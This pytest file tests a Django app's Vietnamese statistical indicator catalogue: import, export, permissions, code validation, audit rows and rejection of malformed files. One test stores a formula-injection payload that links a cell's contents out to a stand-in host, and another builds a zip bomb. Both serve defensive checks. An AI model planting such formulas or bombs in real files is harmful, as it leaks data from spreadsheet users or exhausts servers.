"""The indicator catalogue: the starter catalogue, the model, import all-or-nothing, export, the pages."""

import csv
import io

import openpyxl
import pytest
from django.conf import settings
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from chitieu.core import indicators as core
from chitieu.web.audit.models import AuditLog
from chitieu.web.catalog import files
from chitieu.web.catalog.actions import COLUMNS, do_import_indicators
from chitieu.web.catalog.models import Indicator
from chitieu.web.errors import ActionError


def test_the_starter_catalogue_has_the_seed_indicators_in_every_domain(catalogue):
    assert len(catalogue) >= 40
    assert {i.domain for i in catalogue.values()} == {d.value for d in core.Domain}
    assert catalogue["KT01"].name == "Tổng mức bán lẻ hàng hóa và doanh thu dịch vụ"
    assert catalogue["KT01.1"].parent == catalogue["KT01"]
    assert catalogue["XH09"].numerator.code == "XH09N" and catalogue["XH09"].denominator.code == "DS01"
    assert catalogue["XH06"].direction == "lower"


def test_an_indicator_becomes_the_core_indicator(catalogue):
    core_ind = catalogue["KT04"].to_core()
    assert core_ind == core.Indicator(
        code="KT04", name="Thu nhập bình quân đầu người", unit="triệu đồng", kind="level", direction="higher",
        domain="kinh_te", aggregation="weighted_mean", price_basis="current", weight="DS01")
    assert core_ind.decimals is None and core_ind.places == 1  # not declared: printed as entered (issue 14)


def _row(**over):
    row = {"code": "TEST01", "name": "Số hợp tác xã", "unit": "hợp tác xã", "kind": "count", "direction": "higher",
           "domain": "kinh_te", "aggregation": "sum", "price_basis": "none"}
    row.update(over)
    return row


def test_an_import_creates_and_updates_and_writes_one_audit_row(catalogue, admin):
    counts = do_import_indicators([_row(), _row(code="KT08", name="Số doanh nghiệp đang hoạt động")],
                                  acting_user=admin)
    assert counts == {"created": 1, "updated": 1}
    assert Indicator.objects.get(code="KT08").name == "Số doanh nghiệp đang hoạt động"
    log = AuditLog.objects.get(action="catalog.import", actor=admin)
    assert log.detail["created"] == 1 and log.detail["codes"] == ["KT08", "TEST01"]


def test_an_import_keeps_decimals_unset_unless_the_file_declares_them(catalogue, admin):
    """Issue 14: a blank "decimals" is "not declared" (values printed as entered), a 1 is a declared 1."""
    do_import_indicators([_row(code="KT97", decimals=""), _row(code="KT96", decimals="1")], acting_user=admin)
    assert Indicator.objects.get(code="KT97").decimals is None
    assert Indicator.objects.get(code="KT96").to_core().decimals == 1
    assert Indicator.objects.get(code="KT97").to_core().places == 1


def test_an_import_with_one_bad_row_saves_nothing_and_names_the_rows(catalogue, admin):
    before = Indicator.objects.count()
    rows = [
        _row(code="NEW1"),
        _row(code="NEW2", direction=""),  # direction is required
        _row(code="NEW3", aggregation="ratio"),  # a ratio needs a numerator and a denominator
        _row(code="NEW4", parent="KHONGCO"),
    ]
    with pytest.raises(ActionError) as err:
        do_import_indicators(rows, acting_user=admin)
    messages = err.value.errors["file"]
    assert any(m.startswith("Dòng 3 (NEW2)") and "direction" in m for m in messages)
    assert any(m.startswith("Dòng 4 (NEW3)") and "tử số" in m for m in messages)
    assert any(m.startswith("Dòng 5 (NEW4)") and "KHONGCO" in m for m in messages)
    assert Indicator.objects.count() == before
    assert not Indicator.objects.filter(code="NEW1").exists()


def test_the_catalogue_goes_out_as_xlsx_and_comes_back_unchanged(catalogue, admin):
    data = files.to_xlsx(Indicator.objects.order_by("code"))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[1]] == list(COLUMNS)
    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    assert lists["E2:E2000"] == '"higher,lower,keep"'  # direction: a drop-down in Excel
    assert ws.max_row == len(catalogue) + 1
    rows = files.read_rows("x.xlsx", data)
    assert do_import_indicators(rows, acting_user=admin) == {"created": 0, "updated": len(catalogue)}
    assert Indicator.objects.get(code="KT01.1").parent.code == "KT01"


def test_the_catalogue_goes_out_as_csv(catalogue):
    text = files.to_csv(Indicator.objects.filter(code="XH09"))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [{**rows[0], "code": "XH09", "numerator": "XH09N", "denominator": "DS01", "unit": "%"}]


def test_an_unknown_file_type_is_refused(db):
    with pytest.raises(ActionError) as err:
        files.read_rows("danh-muc.pdf", b"%PDF")
    assert ".xlsx" in err.value.errors["file"][0]


def test_an_administrator_creates_an_indicator_from_the_form(catalogue, admin, client_for):
    c = client_for(admin)
    r = c.post("/catalog/new/", {"code": "KT99", "name": "Số chợ", "unit": "chợ", "kind": "count",
                                 "direction": "higher", "domain": "kinh_te", "aggregation": "sum",
                                 "price_basis": "none", "decimals": 0})
    assert r.status_code == 302
    assert Indicator.objects.get(code="KT99").name == "Số chợ"
    assert AuditLog.objects.filter(action="indicator.create", object_id=str(Indicator.objects.get(code="KT99").pk)).exists()


def test_the_form_refuses_an_indicator_without_direction(catalogue, admin, client_for):
    r = client_for(admin).post("/catalog/new/", {"code": "KT98", "name": "Số chợ", "kind": "count",
                                                 "domain": "kinh_te", "aggregation": "sum", "price_basis": "none",
                                                 "decimals": 0})
    assert r.status_code == 200
    assert "direction" in r.context["form"].errors
    assert not Indicator.objects.filter(code="KT98").exists()


def test_an_upload_with_errors_shows_them_and_saves_nothing(catalogue, admin, client_for):
    body = "code,name,kind,direction,domain,aggregation\nOK1,Một,count,higher,kinh_te,sum\nBAD1,Hai,count,,kinh_te,sum\n"
    r = client_for(admin).post("/catalog/import/", {"file": SimpleUploadedFile("d.csv", body.encode())})
    assert r.status_code == 200
    assert "Dòng 3 (BAD1)" in r.content.decode()
    assert not Indicator.objects.filter(code="OK1").exists()


@pytest.mark.parametrize("who", ["officer", "reviewer", "viewer", "outsider"])
def test_only_administrators_edit_the_catalogue(catalogue, client_for, request, who):
    c = client_for(request.getfixturevalue(who))
    assert c.get("/catalog/").status_code == 200
    assert c.get("/catalog/new/").status_code == 403
    assert c.get("/catalog/KT01/edit/").status_code == 403
    assert c.post("/catalog/import/").status_code == 403


def test_the_list_shows_the_indicators_grouped_by_domain(catalogue, viewer, client_for):
    body = client_for(viewer).get("/catalog/").content.decode()
    assert "Văn hóa - xã hội" in body and "Tỷ lệ người dân tham gia bảo hiểm y tế" in body


def test_the_export_is_an_xlsx_download(catalogue, viewer, client_for):
    r = client_for(viewer).get("/catalog/export.xlsx")
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    assert openpyxl.load_workbook(io.BytesIO(r.content)).active["A2"].value == "CC01"


def test_the_edit_form_shows_the_indicator(catalogue, admin, client_for):
    c = client_for(admin)
    assert c.get("/catalog/new/").status_code == 200
    body = c.get("/catalog/XH09/edit/").content.decode()
    assert 'value="Tỷ lệ người dân tham gia bảo hiểm y tế"' in body and "Tỷ lệ người tham gia bảo hiểm y tế; Tỷ lệ bao phủ BHYT" in body



# --- Issue 10 (hardening): who edits the national catalogue, codes, exports, bad files, audit ---


@pytest.fixture
def ward_admin(places):
    from conftest import _person

    return _person("quantri.phuong2", places.ward2, "admin")


@pytest.fixture
def town_admin(places):
    from conftest import _person

    return _person("quantri.thixa", places.town, "admin")


def _form(**over):
    data = {"code": "KT99", "name": "Số chợ", "unit": "chợ", "kind": "count", "direction": "higher",
            "domain": "kinh_te", "aggregation": "sum", "price_basis": "none", "decimals": 0}
    data.update(over)
    return data


def _upload(client, name, content: bytes):
    return client.post("/catalog/import/", {"file": SimpleUploadedFile(name, content)})


@pytest.mark.parametrize("who", ["ward_admin", "town_admin"])
def test_an_admin_of_a_ward_or_town_is_refused_on_the_shared_catalogue(catalogue, client_for, request, who):
    user = request.getfixturevalue(who)
    c = client_for(user)
    page = c.get("/catalog/")
    assert page.status_code == 200 and "/catalog/KT01/edit/" not in page.content.decode()
    assert c.get("/catalog/new/").status_code == 403
    assert c.post("/catalog/new/", _form()).status_code == 403
    assert c.get("/catalog/KT01/edit/").status_code == 403
    assert c.post("/catalog/KT01/edit/", _form(code="KT01", name="Đổi tên")).status_code == 403
    body = "code,name,kind,direction,domain,aggregation\nKT01,Đổi tên,flow,higher,kinh_te,sum\n"
    assert _upload(c, "d.csv", body.encode()).status_code == 403
    with pytest.raises(PermissionDenied):
        do_import_indicators([_row()], acting_user=user)
    assert Indicator.objects.get(code="KT01").name == "Tổng mức bán lẻ hàng hóa và doanh thu dịch vụ"
    assert not Indicator.objects.filter(code__in=["KT99", "TEST01"]).exists()


def test_an_admin_of_the_province_edits_and_imports_the_catalogue(catalogue, admin, client_for):
    c = client_for(admin)
    assert "/catalog/KT01/edit/" in c.get("/catalog/").content.decode()
    assert c.post("/catalog/new/", _form()).status_code == 302
    body = "code,name,kind,direction,domain,aggregation\nKT98,Số siêu thị,count,higher,kinh_te,sum\n"
    assert _upload(c, "d.csv", body.encode()).status_code == 302
    assert Indicator.objects.get(code="KT99").name == "Số chợ"
    assert Indicator.objects.get(code="KT98").name == "Số siêu thị"


@pytest.mark.parametrize("code", ["A/B", "A B", "-A", "Ă01", "A" * 33, "KT?1"])
def test_a_code_outside_the_pattern_is_refused_by_the_form_the_import_and_the_model(catalogue, admin, client_for,
                                                                                     code):
    r = client_for(admin).post("/catalog/new/", _form(code=code))
    assert r.status_code == 200
    errors = " ".join(r.context["form"].errors.get("code", []))
    assert "không hợp lệ" in errors or "tối đa 32" in errors
    with pytest.raises(ActionError) as err:
        do_import_indicators([_row(code=code)], acting_user=admin)
    assert err.value.errors["file"][0].startswith("Dòng 2")
    assert "không hợp lệ" in err.value.errors["file"][0]
    with pytest.raises(ValidationError) as bad:
        Indicator(**{k: v for k, v in _form(code=code).items()}).full_clean()
    assert "code" in bad.value.message_dict
    assert not Indicator.objects.filter(code=code).exists()


def test_the_code_message_says_what_a_code_may_hold(catalogue, admin):
    with pytest.raises(ActionError) as err:
        do_import_indicators([_row(code="A/B")], acting_user=admin)
    assert err.value.errors["file"] == [
        "Dòng 2 (A/B): Mã chỉ tiêu “A/B” không hợp lệ: chỉ gồm chữ cái không dấu, chữ số và các dấu . _ - "
        "(bắt đầu bằng chữ hoặc số), tối đa 32 ký tự."]


def test_a_bad_code_already_stored_does_not_break_the_list_and_can_be_corrected(catalogue, admin, viewer,
                                                                                  client_for):
    bad = Indicator.objects.create(code="A/B", name="Chỉ tiêu mã hỏng", kind="count", direction="higher",
                                   domain="kinh_te", aggregation="sum")
    assert client_for(viewer).get("/catalog/").status_code == 200
    c = client_for(admin)
    page = c.get("/catalog/")
    assert page.status_code == 200
    body = page.content.decode()
    assert "mã không hợp lệ, cần sửa" in body and f'href="/catalog/id/{bad.pk}/edit/"' in body
    assert c.get(f"/catalog/id/{bad.pk}/edit/").status_code == 200
    r = c.post(f"/catalog/id/{bad.pk}/edit/", _form(code="AB", name="Chỉ tiêu mã hỏng"))
    assert r.status_code == 302
    bad.refresh_from_db()
    assert bad.code == "AB"
    assert AuditLog.objects.filter(action="indicator.update", field="code", old="A/B", new="AB").exists()


def test_text_that_a_spreadsheet_would_run_is_exported_quoted_and_reads_back_unchanged(catalogue, admin):
    formula = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    do_import_indicators([_row(code="INJ1", name=formula, unit="@SUM(A1)"),
                          _row(code="INJ2", name="+1 hộ", unit="-")], acting_user=admin)
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(files.to_csv(Indicator.objects.order_by("code"))))}
    assert rows["INJ1"]["name"] == "'" + formula and rows["INJ1"]["unit"] == "'@SUM(A1)"
    assert rows["INJ2"]["name"] == "'+1 hộ" and rows["INJ2"]["unit"] == "'-"
    assert rows["KT01"]["name"] == "Tổng mức bán lẻ hàng hóa và doanh thu dịch vụ"

    data = files.to_xlsx(Indicator.objects.order_by("code"))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {ws.cell(r, 1).value: ws.cell(r, 2) for r in range(2, ws.max_row + 1)}
    assert cells["INJ1"].value == "'" + formula and cells["INJ1"].data_type == "s"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)

    for content, name in ((data, "x.xlsx"), (files.to_csv(Indicator.objects.all()).encode(), "x.csv")):
        do_import_indicators(files.read_rows(name, content), acting_user=admin)
        assert Indicator.objects.get(code="INJ1").name == formula
        assert Indicator.objects.get(code="INJ1").unit == "@SUM(A1)" and Indicator.objects.get(code="INJ2").unit == "-"


def _xlsx(sheets: dict[str, list[list]]) -> bytes:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _zip_of_text() -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("ghi-chu.txt", "không phải bảng tính")
    return buf.getvalue()


HEADER = ["code", "name", "kind", "direction", "domain", "aggregation"]

BAD_FILES = [
    ("yaml syntax", "d.yaml", "indicators:\n- code: X1\n  name: [Một\n- code: X2\n".encode(),
     ["d.yaml, dòng", "lỗi cú pháp YAML"]),
    ("yaml not a list", "d.yaml", b"indicators: KT01\n", ["cần mục “indicators:”"]),
    ("yaml a bare list", "d.yaml", "- code: X1\n  name: Một\n".encode(), ["cần mục “indicators:”"]),
    ("yaml items not mappings", "d.yaml", "indicators:\n- code: X1\n  name: Một\n- chỉ là chữ\n".encode(),
     ["Dòng 4: mỗi chỉ tiêu phải là một bảng"]),
    ("yaml nested value", "d.yaml", b"indicators:\n- code: X1\n  name: {a: 1}\n",
     ["Dòng 2: cột name phải là một giá trị"]),
    ("yaml not utf-8", "d.yaml", "indicators:\n- code: X1\n  name: Một\n".encode("utf-16"), ["không phải văn bản UTF-8"]),
    ("xlsx of garbage", "d.xlsx", bytes(range(256)) * 40, ["không phải là tệp Excel (.xlsx)"]),
    ("xlsx that is a zip of text", "d.xlsx", _zip_of_text(), ["không phải là tệp Excel (.xlsx)"]),
    ("xlsx wrong sheet", "d.xlsx", _xlsx({"Ghi chú": [["Danh mục năm 2025"], ["xem trang sau"]]}),
     ["không trang tính nào (“Ghi chú”)", "chi_tieu"]),
    ("xlsx missing columns", "d.xlsx", _xlsx({"chi_tieu": [["code", "name"], ["X1", "Một"]]}),
     ["Trang tính “chi_tieu”, dòng 1: thiếu cột kind, direction, domain, aggregation."]),
    ("csv not utf-8", "d.csv", b"code,name,kind,direction,domain,aggregation\nX1,M\xff\xfe\x80t,count,higher,kinh_te,sum\n",
     ["dòng 2: không phải văn bản UTF-8"]),
    ("csv with a NUL", "d.csv", b"code,name,kind,direction,domain,aggregation\nX1,M\x00t,count,higher,kinh_te,sum\n",
     ["Dòng 2 (X1): cột name chứa ký tự điều khiển U+0000"]),
    ("csv with a huge cell", "d.csv", b"code,name,kind,direction,domain,aggregation\nX1," + b"x" * 200_000 + b",count\n",
     ["dòng 2: không đọc được dòng CSV"]),
]


@pytest.mark.parametrize(("what", "name", "content", "says"), BAD_FILES, ids=[b[0] for b in BAD_FILES])
def test_a_bad_catalogue_file_gives_a_clear_message_and_writes_nothing(catalogue, admin, client_for,
                                                                        what, name, content, says):
    before, audit = Indicator.objects.count(), AuditLog.objects.count()
    r = _upload(client_for(admin), name, content)
    assert r.status_code == 200
    body = r.content.decode()
    assert "Chưa lưu gì" in body
    errors = " ".join(r.context["errors"])
    for phrase in says:
        assert phrase in errors, errors
    assert Indicator.objects.count() == before and AuditLog.objects.count() == audit


def test_a_huge_upload_and_a_zip_bomb_are_refused_before_reading(catalogue, admin, client_for):
    import zipfile

    c = client_for(admin)
    r = _upload(c, "d.csv", b"code,name\n" + b"x" * (5 * 1024 * 1024))
    assert r.status_code == 200 and "Tệp lớn quá 5 MB" in r.content.decode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (60 * 1024 * 1024))
    assert len(buf.getvalue()) < 200_000
    r = _upload(c, "d.xlsx", buf.getvalue())
    assert "giải nén ra hơn 50 MB" in " ".join(r.context["errors"])


def test_the_catalogue_sheet_is_found_among_others(catalogue, admin):
    data = _xlsx({"Hướng dẫn": [["Điền vào trang chi_tieu"]],
                  "chi_tieu": [HEADER, ["X1", "Số chợ", "count", "higher", "kinh_te", "sum"]]})
    assert do_import_indicators(files.read_rows("d.xlsx", data), acting_user=admin) == {"created": 1, "updated": 0}


def test_yaml_errors_name_the_line_of_the_indicator(catalogue, admin):
    text = "indicators:\n- code: X1\n  name: Một\n  kind: count\n  direction: higher\n  domain: kinh_te\n" \
           "  aggregation: sum\n- code: X2\n  name: Hai\n  kind: count\n  domain: kinh_te\n  aggregation: sum\n"
    with pytest.raises(ActionError) as err:
        do_import_indicators(files.read_rows("d.yaml", text.encode()), acting_user=admin)
    assert err.value.errors["file"][0].startswith("Dòng 8 (X2)")
    assert not Indicator.objects.filter(code="X1").exists()


def test_a_bad_file_is_explained_in_english_in_the_english_interface(catalogue, admin, client_for):
    c = client_for(admin)
    c.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    r = _upload(c, "d.yaml", "indicators:\n- code: X1\n  name: [Một\n".encode())
    errors = " ".join(r.context["errors"])
    assert r.status_code == 200 and "d.yaml, line 4, column 1" in errors and "YAML syntax error" in errors
    r = _upload(c, "d.xlsx", _zip_of_text())
    assert "is not an Excel file (.xlsx) that can be read" in " ".join(r.context["errors"])


def test_lengths_are_enforced_whatever_the_database(catalogue, admin, client_for):
    with pytest.raises(ActionError) as err:
        do_import_indicators([_row(code="LONG1", name="x" * 301), _row(code="LONG2", unit="u" * 51)],
                             acting_user=admin)
    assert err.value.errors["file"] == ["Dòng 2 (LONG1): cột name dài 301 ký tự, tối đa 300.",
                                        "Dòng 3 (LONG2): cột unit dài 51 ký tự, tối đa 50."]
    r = client_for(admin).post("/catalog/new/", _form(name="x" * 301, unit="u" * 51))
    assert r.status_code == 200
    assert set(r.context["form"].errors) == {"name", "unit"}
    assert not Indicator.objects.filter(code__in=["LONG1", "LONG2", "KT99"]).exists()
    assert do_import_indicators([_row(code="LONG3", name="x" * 300)], acting_user=admin) == {"created": 1, "updated": 0}


def test_the_audit_of_an_import_carries_the_old_and_new_values(catalogue, admin):
    old_name = catalogue["KT08"].name
    do_import_indicators([_row(code="KT08", name="Số doanh nghiệp đang hoạt động", unit="doanh nghiệp",
                               kind=catalogue["KT08"].kind, direction=catalogue["KT08"].direction,
                               domain=catalogue["KT08"].domain, aggregation=catalogue["KT08"].aggregation,
                               price_basis=catalogue["KT08"].price_basis, decimals=catalogue["KT08"].decimals,
                               aliases="; ".join(catalogue["KT08"].aliases)),
                          _row(code="TEST01")], acting_user=admin)
    updates = AuditLog.objects.filter(action="indicator.update", object_id=str(catalogue["KT08"].pk))
    assert {(a.field, a.old, a.new) for a in updates} >= {("name", old_name, "Số doanh nghiệp đang hoạt động")}
    assert all(a.actor == admin and a.detail["via"] == "catalog.import" for a in updates)
    created = AuditLog.objects.get(action="indicator.create", object_repr__startswith="TEST01")
    assert created.new == "Số hợp tác xã" and created.detail["values"]["unit"] == "hợp tác xã"
    # an unchanged indicator leaves no row
    n = AuditLog.objects.filter(action="indicator.update").count()
    do_import_indicators([_row(code="TEST01")], acting_user=admin)
    assert AuditLog.objects.filter(action="indicator.update").count() == n
